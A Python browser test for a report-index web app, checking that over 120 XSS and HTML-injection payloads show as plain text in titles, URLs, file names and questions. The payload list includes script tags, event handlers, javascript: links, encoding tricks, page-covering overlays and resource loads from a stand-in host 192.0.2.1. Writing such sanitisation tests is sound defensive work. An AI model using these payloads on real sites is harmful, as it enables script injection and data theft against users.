"""Nothing in a report, a file name or a question runs, calls out or covers the page: it is shown as text."""

import html
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from page_visits import IN_BROWSER, Visit, build_index, opened_browser, playwright, served

from assistant.page.text import escape
from index.prepare import Tools
from index.types import Report

pytestmark = IN_BROWSER

# Each tries to run `ran()`, to fetch from 192.0.2.1 (an address that exists nowhere), or to cover the page.
PAYLOADS = [
    "<script>ran()</script>",
    "<ScRiPt src=http://192.0.2.1/a.js></ScRiPt>",
    "</p></article><script>ran()</script>",
    "<img src=x onerror=ran()>",
    '<img src="http://192.0.2.1/p.png">',
    '<img srcset="http://192.0.2.1/s.png 2x">',
    "<svg onload=ran()></svg>",
    "<svg><script>ran()</script></svg>",
    "<svg><image href=http://192.0.2.1/i.svg /></svg>",
    "<iframe src=javascript:ran()></iframe>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<object data=http://192.0.2.1/o></object>",
    "<embed src=http://192.0.2.1/e>",
    "<video src=http://192.0.2.1/v poster=http://192.0.2.1/w></video>",
    "<audio src=x onerror=ran()></audio>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<input autofocus onfocus=ran()>",
    "<body onload=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    '<a href="javascript:ran()">read on</a>',
    '<a href="data:text/html,<script>ran()</script>">read on</a>',
    "[read on](javascript:ran())",
    "![pixel](http://192.0.2.1/m.png)",
    "![pixel][p]\n\n[p]: http://192.0.2.1/r.png",
    "<style>*{background:url(http://192.0.2.1/c.png)}</style>",
    "<div style=\"background:url('http://192.0.2.1/d.png')\">x</div>",
    '<link rel=stylesheet href="http://192.0.2.1/l.css">',
    '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
    '<base href="http://192.0.2.1/">',
    '<form action="http://192.0.2.1/f"><button>Log in</button></form>',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Session expired</div>',
    '"><img src=x onerror=ran()>',
    "' onmouseover='ran()",
    '" autofocus onfocus="ran()" x="',
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    "`${ran()}`",
    "<!--<img src=--><img src=x onerror=ran()//",
    "<math><mtext></mtext><script>ran()</script></math>",
    "<template><script>ran()</script></template><noscript><img src=x onerror=ran()></noscript>",
    "a < b and c > d & e",
    "user\u202etxt.exe and \u2066hidden\u2069",
    # Script, and what may become it
    "<script >ran()</script >",
    "<script/x>ran()</script>",
    "<<script>ran()//<</script>",
    "<script>ran()",
    "<script type=module>import('http://192.0.2.1/m.js')</script>",
    "</textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "</style><script>ran()</script>",
    "</blockquote></div><script>ran()</script>",
    "]]><script>ran()</script>",
    "<xss id=x onclick=ran() autofocus tabindex=1 onfocus=ran()>x</xss>",
    "<style onload=ran()></style>",
    "<link rel=preload as=script href=http://192.0.2.1/q.js>",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "%3Cscript%3Eran()%3C/script%3E",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "<scr\u0000ipt>ran()</scr\u0000ipt>",
    "<img src=x onerror\u000b=ran()>",
    # Event handlers
    "<img/src=x/onerror=ran()>",
    "<img src=x onerror=&#114;an()>",
    "<IMG SRC=x ONERROR=ran()>",
    "<img src=x: onerror='ran()'",
    "<p onpointerenter=ran()>x</p>",
    "<b onmouseover=ran() style=font-size:99px>x</b>",
    "<div onscrollend=ran() style=overflow:auto;height:1px>x<br>y</div>",
    "<select autofocus onfocus=ran()><option>x</select>",
    "<textarea autofocus onfocus=ran()>x</textarea>",
    "<button autofocus onfocus=ran()>x</button>",
    "<keygen autofocus onfocus=ran()>",
    "<video><source onerror=ran()></video>",
    "<video oncanplay=ran() src=data:video/mp4;base64,AAAA></video>",
    "<audio autoplay onloadstart=ran() src=x></audio>",
    "<object onerror=ran() data=x></object>",
    "<dialog open onclose=ran()><form method=dialog><button>x</button></form></dialog>",
    "<div popover onbeforetoggle=ran()>x</div>",
    "<div style='animation:pulse 1s' onanimationstart=ran()>x</div>",
    '" onpointerdown="ran()',
    "' autofocus='' onfocus='ran()",
    "x` onmouseover=ran() `",
    # Links
    "<a href=' javascript:ran()'>x</a>",
    "<a href='java\tscript:ran()'>x</a>",
    "<a href=&#106;avascript:ran()>x</a>",
    "<a href=vbscript:ran()>x</a>",
    "<a href=//192.0.2.1/>x</a>",
    "<a href=http://192.0.2.1/ ping=http://192.0.2.1/ping>x</a>",
    "<area href=javascript:ran()>",
    "<svg><a xlink:href=javascript:ran()><text>x</text></a></svg>",
    "[read on](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[read on][j]\n\n[j]: javascript:ran()",
    "<javascript:ran()>",
    "<http://192.0.2.1/auto>",
    # Images, styles and forms of elsewhere
    "![pixel](http://192.0.2.1/n.png 'x')",
    "[![pixel](http://192.0.2.1/o.png)](http://192.0.2.1/)",
    "<picture><source srcset=http://192.0.2.1/t.png><img src=x></picture>",
    "<img src=x lowsrc=http://192.0.2.1/u.png dynsrc=http://192.0.2.1/v.png>",
    "<input type=image src=http://192.0.2.1/x.png>",
    "<body background=http://192.0.2.1/y.png>",
    "<table background=http://192.0.2.1/z.png><tr><td>x</table>",
    "<style>@import 'http://192.0.2.1/i.css';</style>",
    "<style>@font-face{font-family:x;src:url(http://192.0.2.1/f.woff)}*{font-family:x}</style>",
    '<p style="list-style-image:url(http://192.0.2.1/g.png)">x</p>',
    "<svg><style>*{background:url(http://192.0.2.1/h.png)}</style></svg>",
    "<svg><use href=http://192.0.2.1/j.svg#x></use></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:ran()></svg>",
    "<svg><foreignObject><iframe src=javascript:ran()></foreignObject></svg>",
    "<form><button formaction=javascript:ran()>x</button></form>",
    "<form action=javascript:ran()><input type=submit></form>",
    "<isindex action=javascript:ran() type=submit>",
    "<frameset onload=ran()><frame src=http://192.0.2.1/></frameset>",
    "<applet code=http://192.0.2.1/k.class></applet>",
    "<track src=http://192.0.2.1/w.vtt default>",
    "<portal src=http://192.0.2.1/></portal>",
    # What covers or misleads
    "<div style=position:fixed;top:0;left:0;width:100vw;height:100vh;opacity:0;z-index:99999>x</div>",
    "<a class=cite href=#t-1 data-report=r1>[1]</a>",
    "<mark id=t-1-c-1>Not the quote.</mark>",
    "<b class=quoted>Quoted</b>",
    "\u202ereversed\u202c and \u2067isolated\u2069",
    "soft\u200bhidden\u2060joined\ufeffmarked",
    "tagged\U000e0041\U000e0042",
    "1 < 2 && 3 > 2 <= \"quoted\" 'and' `so on`",
    "<none@example.org> wrote: >> see <below>",
]

TOGETHER = 9
"""Payloads in one report or question: enough of them to be few, few enough to be read."""


def batches() -> list[list[str]]:
    return [PAYLOADS[at : at + TOGETHER] for at in range(0, len(PAYLOADS), TOGETHER)]


def hostile_reports() -> list[Report]:
    """Each payload in a title, an outlet, an address, a sentence of the body, and some of them in an id."""
    return [
        Report(
            id=f"h{number} {some[0]}"[:200],
            source=f"Outlet {' '.join(some)}",
            url=f"javascript:ran()//{' '.join(some)}",
            title=f"Clinic item {number} {' '.join(some)}",
            language="en",
            body=f"The clinic in Gao reported item {number} on Monday. It wrote {' and '.join(some)} on the door.",
            published_at=datetime(2031, 3, 1 + number, tzinfo=UTC),
        )
        for number, some in enumerate(batches(), start=1)
    ]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with opened_browser() as opened:
        yield opened


FOREIGN = "#talk, #running, #sources, #listed, #whole, #message, #coverage, #added"
NEVER = (
    "script, img, iframe, object, embed, video, audio, style, link, meta, base, form, input, image, template, dialog"
)


def assert_inert(visit: Visit) -> None:
    """No element, handler or address that a payload could have brought stands in any part that shows foreign text."""
    found = visit.page.evaluate(
        """([where, never]) => [...document.querySelectorAll(where)].flatMap((part) => [
          ...[...part.querySelectorAll(never)].map((each) => each.outerHTML),
          ...[...part.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()
            .filter((name) => name.startsWith("on") || (name === "href" && !each.getAttribute(name).startsWith("#t-"))
              || (name === "style" && /url|fixed|animation|overflow/.test(each.getAttribute(name))))
            .map((name) => `${name}=${each.getAttribute(name)} of ${each.outerHTML.slice(0, 200)}`)),
        ])""",
        [FOREIGN, NEVER],
    )
    assert found == [], found[0]
    visit.assert_quiet()


def shown(payload: str) -> str:
    """A payload as a reader should see it: hidden characters by number, spaces as HTML runs them together."""
    return " ".join(html.unescape(escape(payload)).split())


def test_120_hostile_payloads_are_shown_as_text_wherever_they_stand(browser: Any, tmp_path: Path, tools: Tools):
    assert len(set(PAYLOADS)) >= 120
    folder = build_index(tmp_path / "index", tools, hostile_reports())
    with served(folder, tools) as address, Visit(browser, address) as visit:
        page = visit.page
        page.get_by_role("tab", name="Reports").click()
        rows = page.locator("#listed .report-row")
        assert rows.count() == len(batches())
        for at, some in enumerate(reversed(batches())):
            rows.nth(at).click()
            playwright.expect(page.locator("#whole h2")).to_contain_text(f"Clinic item {len(batches()) - at} ")
            whole, listed = (" ".join(part.text_content().split()) for part in (page.locator("#whole"), rows.nth(at)))
            for payload in some:
                assert whole.count(shown(payload)) >= 3  # title, outlet, address or body
                assert listed.count(shown(payload)) >= 2
        assert_inert(visit)

        page.click("#add-files > button")
        names = [f"{number} {payload}.txt" for number, payload in enumerate(PAYLOADS)]
        page.set_input_files(
            "#upload input[type=file]",
            [{"name": name, "mimeType": "text/plain", "buffer": b"No date in this one."} for name in names],
        )
        playwright.expect(page.locator("#upload .file-preview tr")).to_have_count(len(names))
        page.click("#button-add")
        playwright.expect(page.locator("#added .done")).to_contain_text(f"{len(names)} rejected")
        assert_inert(visit)

        page.get_by_role("tab", name="Questions").click()
        for number, some in enumerate(batches(), start=1):
            visit.ask(f"What did the clinic in Gao report about item {number}? {' '.join(some)}"[:2000])
            asked = " ".join(page.locator("#talk .asked").last.text_content().split())
            assert all(shown(payload) in asked for payload in some)
            page.locator("#talk a.cite").last.hover()
            page.locator("#sources article").first.hover()
            assert_inert(visit)
        page.mouse.click(640, 400)
        assert_inert(visit)
